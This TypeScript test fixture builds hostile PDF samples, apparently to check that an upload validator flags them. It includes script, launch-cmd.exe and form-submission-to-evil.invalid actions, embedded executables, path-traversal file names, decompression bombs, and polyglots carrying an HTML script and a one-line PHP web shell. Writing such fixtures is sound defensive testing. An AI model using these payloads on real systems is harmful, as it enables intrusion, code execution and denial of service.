import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { repeatable } from '@platform/seeded-random';
import type { HostileFile } from './hostile-file.ts';

const MEGABYTE = 1024 * 1024;

type Stream = { readonly dict: string; readonly data: Buffer };

/** A PDF of numbered objects, the first of which is its catalog; with a table of their positions. */
export function rawPdf(objects: readonly (string | Stream)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const offsets: number[] = [];
  let size = parts[0]?.length ?? 0;
  const add = (part: Buffer | string): void => {
    const bytes = typeof part === 'string' ? Buffer.from(part, 'latin1') : part;
    parts.push(bytes);
    size += bytes.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(size);
    add(`${index + 1} 0 obj\n`);
    if (typeof object === 'string') add(object);
    else {
      add(`<< ${object.dict} /Length ${object.data.length} >>\nstream\n`);
      add(object.data);
      add('\nendstream');
    }
    add('\nendobj\n');
  }
  const table = size;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`);
  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const CATALOG = '/Type /Catalog /Pages 2 0 R';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]';

/** A document of one page with further entries in its catalog and its page, and further objects from number 4 on. */
function onePage(
  extra: { readonly catalog?: string; readonly page?: string },
  ...objects: readonly (string | Stream)[]
): Buffer {
  return rawPdf([
    `<< ${CATALOG} ${extra.catalog ?? ''} >>`,
    PAGES,
    `<< ${PAGE} ${extra.page ?? ''} >>`,
    ...objects,
  ]);
}

function named(name: string, bytes: Buffer, ...fates: HostileFile['fates']): HostileFile {
  return { name, file: 'file.pdf', declared: 'application/pdf', bytes, fates };
}

/** What a reader would execute, in each place where it may be. */
function active(): readonly HostileFile[] {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const actions = {
    script,
    'escaped script': '<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>',
    'program start': '<< /S /Launch /F (cmd.exe) >>',
    'embedded file': '<< /S /GoToE /T << /R /C >> >>',
    'form submission': '<< /S /SubmitForm /F (http://evil.invalid) >>',
    'data import': '<< /S /ImportData /F (data.fdf) >>',
    rendition: '<< /S /Rendition /OP 0 >>',
    sound: '<< /S /Sound /Sound 4 0 R >>',
    movie: '<< /S /Movie >>',
    'chained script': `<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`,
  };
  const places = Object.entries(actions).flatMap(([name, action]) => [
    named(
      `PDF with ${name} when it is opened`,
      onePage({ catalog: `/OpenAction ${action}` }),
      'active_content',
    ),
    named(`PDF with ${name} of a page`, onePage({ page: `/AA << /O ${action} >>` }), 'active_content'),
    named(
      `PDF with ${name} of a link`,
      onePage({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]` }),
      'active_content',
    ),
    named(`PDF with ${name} that nothing refers to`, onePage({}, action), 'active_content'),
  ]);
  const annotations = ['RichMedia', 'Movie', 'Sound', 'Screen', '3D'].map((kind) =>
    named(
      `PDF with an annotation ${kind}`,
      onePage({ page: `/Annots [<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] >>]` }),
      'active_content',
    ),
  );
  const packed = deflateSync(Buffer.from(`9 0 ${script}`, 'latin1'));
  return [
    ...places,
    ...annotations,
    named(
      'PDF with scripts by name',
      onePage({ catalog: `/Names << /JavaScript << /Names [(x) ${script}] >> >>` }),
      'active_content',
    ),
    named(
      'PDF with a form of XFA',
      onePage({ catalog: '/AcroForm << /XFA (x) /Fields [] >>' }),
      'active_content',
    ),
    named('PDF with a script in a broken object', onePage({}, `<< /X ( /S ${script}`), 'active_content'),
    named(
      'PDF with a script between its objects',
      Buffer.from(onePage({}).toString('latin1').replace('xref', `${script}\nxref`), 'latin1'),
      'active_content',
    ),
    named(
      'PDF with a script in a packed object',
      onePage({}, { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: packed }),
      'active_content',
    ),
  ];
}

function attached(): readonly HostileFile[] {
  const attachedAs = (names: string): Buffer =>
    onePage(
      { catalog: `/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>` },
      `<< /Type /Filespec ${names} /EF << /F 5 0 R >> >>`,
      { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') },
    );
  const attachment = (name: string): Buffer => attachedAs(`/F (${name}) /UF (${name})`);
  const refused = ['run.exe', 'macro.docm', 'x.zip', 'factur-x.xml.exe', '../factur-x.xml', 'x.pdf', 'x.js'];
  return [
    ...refused.map((name) => named(`PDF with the attached file ${name}`, attachment(name), 'active_content')),
    named('PDF with an attached file without a name', attachedAs(''), 'active_content'),
    named('PDF with an attached file of an empty name', attachedAs('/F ()'), 'active_content'),
    named(
      'PDF with an attached file of two names',
      attachedAs('/F (factur-x.xml) /UF (run.exe)'),
      'active_content',
    ),
    named(
      'PDF with an attached file and a name for old systems',
      attachedAs('/F (factur-x.xml) /DOS (run.exe)'),
      'active_content',
    ),
    named('PDF with the data of an electronic invoice', attachment('factur-x.xml'), 'clean'),
    named('PDF with the data of an invoice under one name', attachedAs('/UF (factur-x.xml)'), 'clean'),
  ];
}

/** Bytes of zeros in each form that packs them well. */
function bombs(): readonly HostileFile[] {
  const zeros = deflateSync(Buffer.alloc(120 * MEGABYTE), { level: 9 });
  const twice = deflateSync(zeros, { level: 9 });
  const tens = deflateSync(Buffer.alloc(10 * MEGABYTE), { level: 9 });
  const hex = Buffer.from(`${zeros.toString('hex')}>`);
  const runs = Buffer.alloc(4 * MEGABYTE);
  for (let at = 0; at < runs.length; at += 2) runs.writeUInt16BE(0x8100, at);
  const content = (dict: string, data: Buffer): Buffer =>
    onePage({ page: '/Contents 4 0 R' }, { dict, data });
  const huge = (width: number, height: number): Buffer =>
    onePage(
      { page: '/Resources << /XObject << /I 4 0 R >> >>' },
      {
        dict: `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode`,
        data: Buffer.from([0xff, 0xd8]),
      },
    );
  return [
    named('PDF that unpacks to 120 MB', content('/Filter /FlateDecode', zeros), 'too_complex'),
    named('PDF packed twice', content('/Filter [/FlateDecode /FlateDecode]', twice), 'too_complex'),
    named(
      'PDF packed and written as text',
      content('/Filter [/ASCIIHexDecode /FlateDecode]', hex),
      'too_complex',
    ),
    named(
      'PDF with 20 streams of 10 MB',
      onePage({}, ...Array.from({ length: 20 }, () => ({ dict: '/Filter /FlateDecode', data: tens }))),
      'too_complex',
    ),
    named(
      'PDF packed and then a picture',
      content('/Subtype /Image /Width 1 /Height 1 /Filter [/FlateDecode /DCTDecode]', zeros),
      'too_complex',
    ),
    named('PDF packed under a short name', content('/Filter [/AHx /Fl]', hex), 'too_complex'),
    named(
      'PDF packed by filters that are referred to',
      onePage({ page: '/Contents 5 0 R' }, '/FlateDecode', { dict: '/Filter [4 0 R]', data: zeros }),
      'too_complex',
    ),
    named(
      'PDF with a picture whose dimensions are referred to',
      onePage({ page: '/Resources << /XObject << /I 5 0 R >> >>' }, '65000', {
        dict: '/Type /XObject /Subtype /Image /Width 4 0 R /Height 4 0 R /BitsPerComponent 8 /Filter /DCTDecode',
        data: Buffer.from([0xff, 0xd8]),
      }),
      'too_many_pixels',
    ),
    named('PDF of runs', content('/Filter /RunLengthDecode', runs), 'too_complex'),
    named(
      'PDF with packed objects of 120 MB',
      onePage({}, { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: zeros }),
      'too_complex',
      'unreadable',
    ),
    named('PDF with a picture of 4 billion pixels', huge(65_000, 65_000), 'too_many_pixels'),
    named('PDF with a picture of one row', huge(2_000_000_000, 1), 'too_many_pixels'),
    named('PDF with a tiny picture', huge(1, 1), 'clean'),
    named(
      'PDF of 10,000 nested lists',
      onePage({ catalog: `/X ${'['.repeat(10_000)}${']'.repeat(10_000)}` }),
      'active_content',
      'unreadable',
      'too_complex',
      'clean',
    ),
    named(
      'PDF of a million objects',
      Buffer.from(`%PDF-1.4\n${'1 0 obj\n<<>>\nendobj\n'.repeat(400_000)}%%EOF`),
      'unreadable',
      'too_complex',
    ),
    named(
      'PDF of 205,000 objects',
      rawPdf([`<< ${CATALOG} >>`, PAGES, `<< ${PAGE} >>`, ...new Array<string>(205_000).fill('<< >>')]),
      'too_complex',
    ),
  ];
}

function structures(): readonly HostileFile[] {
  const loop = rawPdf([`<< ${CATALOG} >>`, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']);
  return [
    named('PDF whose pages contain themselves', loop, 'unreadable', 'clean', 'too_complex'),
    named(
      'PDF without pages',
      rawPdf([`<< ${CATALOG} >>`, '<< /Type /Pages /Kids [] /Count 0 >>']),
      'unreadable',
    ),
    named(
      'PDF with a negative number of pages',
      rawPdf([`<< ${CATALOG} >>`, '<< /Type /Pages /Kids [] /Count -5 >>']),
      'unreadable',
    ),
    named(
      'PDF that claims a billion pages',
      rawPdf([`<< ${CATALOG} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>', `<< ${PAGE} >>`]),
      'too_many_pages',
      'unreadable',
      'clean',
    ),
    named('PDF of only its first line', Buffer.from('%PDF-1.7\n'), 'unreadable'),
    named('PDF of first and last line', Buffer.from('%PDF-1.7\n%%EOF\n'), 'unreadable'),
    named('PDF without an end', onePage({}).subarray(0, -20), 'unreadable'),
    named(
      'PDF behind a script',
      Buffer.concat([Buffer.from('#!/bin/sh\nexit\n'), onePage({})]),
      'type_unknown',
      'type_mismatch',
    ),
    named(
      'PDF behind a blank line',
      Buffer.concat([Buffer.from('\n'), onePage({})]),
      'type_unknown',
      'type_mismatch',
      'clean',
    ),
  ];
}

/** Files that are a PDF and something else. */
function polyglots(): readonly HostileFile[] {
  const tails = {
    'an archive': Buffer.from('PK\u0003\u0004', 'latin1'),
    'a page of HTML': Buffer.from('<html><script>alert(1)</script>'),
    'a program': Buffer.from('MZ\u0090\u0000', 'latin1'),
    'a script of PHP': Buffer.from('<?php system($_GET[0]);'),
    '2 KB of blanks': Buffer.alloc(2_048, ' '),
    'a text': Buffer.from('x'),
  };
  return Object.entries(tails).map(([name, tail]) =>
    named(`PDF with ${name} behind it`, Buffer.concat([onePage({}), tail]), 'type_mismatch'),
  );
}

async function counted(): Promise<readonly HostileFile[]> {
  const pages = async (count: number): Promise<Buffer> => {
    const document = await PDFDocument.create();
    for (let page = 0; page < count; page += 1) document.addPage([100, 100]);
    return Buffer.from(await document.save());
  };
  return [
    named('PDF of 500 pages', await pages(500), 'clean'),
    named('PDF of 501 pages', await pages(501), 'too_many_pages'),
    named('PDF of 5,000 pages', await pages(5_000), 'too_many_pages'),
  ];
}

const PROTECTED = '/Filter /Standard /V 1 /R 2 /Length 40 /P -4';

function locked(): HostileFile {
  const secret = '<'.concat('41'.repeat(32), '>');
  const pdf = onePage({}, `<< ${PROTECTED} /O ${secret} /U ${secret} >>`).toString('latin1');
  const bytes = Buffer.from(
    pdf.replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 4 0 R /ID [<41> <41>]'),
    'latin1',
  );
  return named('PDF with a password', bytes, 'encrypted', 'unreadable');
}

/** Parts and changed copies of a real document: whatever they are, they end within the limits. */
async function damaged(): Promise<readonly HostileFile[]> {
  const document = await PDFDocument.create();
  for (let page = 0; page < 3; page += 1) document.addPage([595, 842]).drawText('Extrait');
  const whole = Buffer.from(await document.save());
  const random = repeatable(14);
  const cuts = Array.from({ length: 12 }, (_, index) => Math.floor((whole.length * (index + 1)) / 13));
  return [
    ...cuts.map((at) => named(`PDF cut after ${at} bytes`, whole.subarray(0, at), 'unreadable')),
    ...Array.from({ length: 20 }, (_, seed) => {
      const changed = Buffer.from(whole);
      for (let flip = 0; flip < 30; flip += 1)
        changed.writeUInt8(random(256), 8 + random(changed.length - 16));
      return named(`PDF with changed bytes, number ${seed}`, changed, 'any');
    }),
  ];
}

/** PDFs that attack their readers. */
export async function hostilePdfs(): Promise<readonly HostileFile[]> {
  return [
    ...active(),
    ...attached(),
    ...bombs(),
    ...structures(),
    ...polyglots(),
    locked(),
    ...(await counted()),
    ...(await damaged()),
  ];
}
